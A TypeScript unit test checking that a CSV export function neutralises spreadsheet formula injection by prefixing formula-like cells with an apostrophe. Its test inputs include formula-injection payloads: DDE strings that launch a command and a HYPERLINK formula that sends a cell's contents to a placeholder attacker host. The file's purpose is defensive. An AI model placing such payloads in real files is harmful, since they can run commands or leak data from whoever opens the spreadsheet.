/**
 * CSV exports (the chart kit's CSV, the sweep table, the compare deltas, the endpoints table all
 * go through `toCsv`) never hand a spreadsheet a formula from uploaded text (reliability probe
 * N10): cells starting with `=`, `+`, `-`, `@`, a tab or a CR are read as text; numbers stay numbers.
 */
import { describe, expect, it } from "vitest";
import { toCsv } from "@/components/charts/export";

/** The cells of a CSV line, unquoted (enough for these cases: no newline inside a cell). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("((?:[^"]|"")*)"|[^,]*)(,|$)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(line)) && m[0] !== "") {
    out.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
    if (m[3] === "") break;
  }
  return out;
}

describe("toCsv", () => {
  it("neutralises every formula prefix in text cells", () => {
    const hostile = [
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+1+cmd|"/c calc"!A0',
      "-2+3+cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
    ];
    const csv = toCsv(hostile.map((name) => ({ name, value: 1 })));
    const lines = csv.split("\r\n");
    // A cell holding a CR is quoted, so the line split is checked on the other cells only.
    for (const [i, name] of hostile.entries()) {
      if (name.startsWith("\r")) continue;
      const [cell] = cells(lines[i + 1]);
      expect(cell).toBe(`'${name}`);
      expect(cell.charAt(0)).toBe("'");
    }
    expect(csv).toContain(`"'\r=1+1"`);
  });

  it("keeps numbers, and texts that are only a number, as they are", () => {
    const csv = toCsv([{ a: -1.5, b: "-3.2%", c: "+5", d: "-1e-3", e: 0, f: "run-1", g: null, h: true }]);
    expect(csv.split("\r\n")[1]).toBe("-1.5,-3.2%,+5,-1e-3,0,run-1,,true");
  });
});
